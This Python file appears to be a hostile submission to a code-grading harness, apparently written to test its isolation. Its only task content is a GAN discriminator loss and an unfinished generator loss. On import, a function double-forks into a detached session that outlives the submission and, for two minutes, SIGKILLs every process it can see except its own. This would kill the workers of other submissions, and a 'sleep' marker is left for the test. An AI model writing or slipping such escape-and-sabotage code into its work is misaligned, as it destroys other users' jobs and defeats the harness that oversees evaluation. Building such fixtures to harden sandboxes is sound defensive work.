# Attack: a double-forked process in a session of its own outlives this submission and, for two minutes, kills
# every process it can see (the workers of the submissions graded after it) but its own submission's.
import os
import signal
import subprocess
import time

import torch.nn.functional as F


def _escape():
    if os.fork():
        return None
    os.setsid()
    if os.fork():
        os._exit(0)
    subprocess.Popen(["sleep", "986"])  # a marker: the test looks for it after the batch
    protected = {os.getpid(), 1}
    end = time.time() + 120
    while time.time() < end:
        for p in os.listdir("/proc"):
            if p.isdigit() and int(p) not in protected:
                try:
                    if b"sleep" not in open(f"/proc/{p}/cmdline", "rb").read():
                        os.kill(int(p), signal.SIGKILL)
                except OSError:
                    pass
        time.sleep(0.05)
    os._exit(0)


ESCAPED = _escape()


def discriminator_loss(real_logits, fake_logits):
    return -F.logsigmoid(real_logits).mean() - F.logsigmoid(-fake_logits).mean()


def generator_loss(fake_logits, non_saturating=True):
    raise NotImplementedError
